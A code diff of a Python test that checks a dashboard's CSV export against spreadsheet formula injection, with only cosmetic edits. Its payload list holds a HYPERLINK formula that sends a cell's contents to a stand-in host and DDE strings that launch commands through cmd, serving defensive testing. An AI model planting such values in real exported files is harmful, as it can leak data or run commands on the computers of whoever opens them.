@@ -17,7 +17,7 @@ from dashboard.reports import supervisions
 
 # what a spreadsheet takes as the start of a formula (or of a DDE call), leading spaces included
 PAYLOADS = (
-    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"点此\")",
+    '=HYPERLINK("http://x.invalid/?"&A1,"点此")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -64,7 +64,7 @@ def _starts_a_formula(cell: str) -> bool:
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_a_csv_cell_never_starts_a_formula(payload: str) -> None:
     body = supervisions.to_csv([row(payload)]).decode("utf-8-sig")
-    header, line = list(csv.reader(io.StringIO(body)))
+    _header, line = list(csv.reader(io.StringIO(body)))
     for key in FREE:
         cell = line[[k for k, _ in supervisions.COLUMNS].index(key)]
         assert not _starts_a_formula(cell) and not cell.startswith(("\t", "\r")), (key, cell)
